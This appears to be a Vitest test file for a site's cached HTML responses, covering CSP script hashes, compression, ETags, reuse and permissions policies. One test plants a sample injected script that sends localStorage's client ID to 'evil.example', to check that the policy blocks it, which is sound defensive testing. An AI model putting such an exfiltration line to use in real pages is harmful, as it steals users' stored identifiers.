import { createHash } from 'node:crypto';
import { brotliDecompressSync } from 'node:zlib';
import { expect, it } from 'vitest';
import {
  buildCachedResponse,
  type CachedResponse,
  precompressResponse,
  reuseOrBuildResponse,
} from './cached-response.ts';

const scripts = {
  context: 'window.__reactRouterContext = {};',
  main: 'import "/assets/manifest.js";\nimport("/assets/entry.js");',
};

const hash = (code: string) => `'sha256-${createHash('sha256').update(code).digest('base64')}'`;

const document = {
  status: 200,
  headers: [['content-type', 'text/html; charset=utf-8']] as [string, string][],
  body: Buffer.from(
    `<html><head><link rel="modulepreload" href="/assets/a.js"/><link rel="manifest" href="/m"/></head><body><p>${'Daylight. '.repeat(200)}</p>` +
      '<script type="application/ld+json">{"@type":"Event"}</script><script src="/assets/x.js"></script>' +
      `<script>${scripts.context}</script><script type="module" async="">${scripts.main}</script></body></html>`,
  ),
  scripts: [hash(scripts.context), hash(scripts.main)],
};

const getBrotliBody = (response: CachedResponse) => response.br.ready?.body ?? Buffer.alloc(0);

it('allows exactly the inline scripts of the rendering', () => {
  const policy = buildCachedResponse(document, { path: '/', secured: true }).headers[
    'content-security-policy'
  ];
  expect(policy).toContain(
    `script-src 'self' ${hash(scripts.context)} ${hash(scripts.main)} https://js.stripe.com`,
  );
  expect(policy).not.toContain("script-src 'self' 'unsafe-inline'");
});

it('does not allow injected scripts', () => {
  const injectedCode = 'fetch("https://evil.example/" + localStorage.iss_clientId)';
  const injected = `<p>Hello</p><script>${injectedCode}</script><script type="module" async="">${injectedCode}</script></body>`;
  const body = Buffer.from(document.body.toString().replace('</body>', injected));
  const policy = buildCachedResponse({ ...document, body }, { path: '/', secured: true }).headers[
    'content-security-policy'
  ];
  expect(policy).toContain(hash(scripts.context));
  expect(policy).not.toContain(hash(injectedCode));
});

it('allows a script that waits as text, and starts later', () => {
  const body = Buffer.from(document.body.toString().replace('type="module" async=""', 'type="text/plain"'));
  const { headers } = buildCachedResponse({ ...document, body }, { path: '/', secured: true });
  expect(headers['content-security-policy']).toContain(hash(scripts.main));
});

it('compresses once and returns the same ETag for the same content', async () => {
  const response = buildCachedResponse(document, { path: '/', secured: true });
  expect(await response.br.make()).toBe(await response.br.make());
  expect(brotliDecompressSync((await response.br.make()).body).toString()).toContain('Daylight');
  expect(buildCachedResponse(document, { path: '/', secured: true }).headers.etag).toBe(
    response.headers.etag,
  );
});

it('reuses the previous response for an identical rendering, and recompresses it better', async () => {
  const before = buildCachedResponse(document, { path: '/', secured: true });
  const fastBody = (await before.br.make()).body;
  expect(reuseOrBuildResponse(before, { ...document }, { path: '/', secured: true })).toBe(before);
  await expect.poll(() => getBrotliBody(before).length).toBeLessThan(fastBody.length);
  expect(brotliDecompressSync(getBrotliBody(before))).toEqual(document.body);
});

it('builds a new response for a changed rendering, precompressed in the encodings sent before', async () => {
  const before = buildCachedResponse(document, { path: '/', secured: true });
  await before.br.make();
  const changed = { ...document, body: Buffer.from(document.body.toString().replace('Daylight', 'Night')) };
  const after = reuseOrBuildResponse(before, changed, { path: '/', secured: true });
  await precompressResponse(after, before);
  expect(brotliDecompressSync(getBrotliBody(after)).toString()).toContain('Night');
  expect(after.gzip.ready).toBeNull();
  expect(reuseOrBuildResponse(before, { ...document, status: 404 }, { path: '/', secured: true })).not.toBe(
    before,
  );
});

it('allows the camera and WebAssembly on the check-in page only', () => {
  const of = (path: string) => buildCachedResponse(document, { path, secured: true }).headers;
  expect(of('/scan')['permissions-policy']).toContain('camera=(self)');
  expect(of('/scan')['content-security-policy']).toContain("'wasm-unsafe-eval'");
  for (const path of ['/', '/admin', '/scan/other']) {
    expect(of(path)['permissions-policy']).toContain('camera=()');
    expect(of(path)['content-security-policy']).not.toContain('wasm');
  }
});

it('allows the origin of the third-party analytics script, if there is one', () => {
  const of = (analyticsOrigin: string | null) =>
    buildCachedResponse(document, { path: '/', secured: true, analyticsOrigin }).headers[
      'content-security-policy'
    ] ?? '';
  const allowed = of('https://counting.example')
    .split('; ')
    .filter((directive) => directive.includes('https://counting.example'));
  expect(allowed.map((directive) => directive.split(' ')[0])).toEqual([
    'script-src',
    'img-src',
    'connect-src',
  ]);
  expect(of(null)).toBe(
    buildCachedResponse(document, { path: '/', secured: true }).headers['content-security-policy'],
  );
});
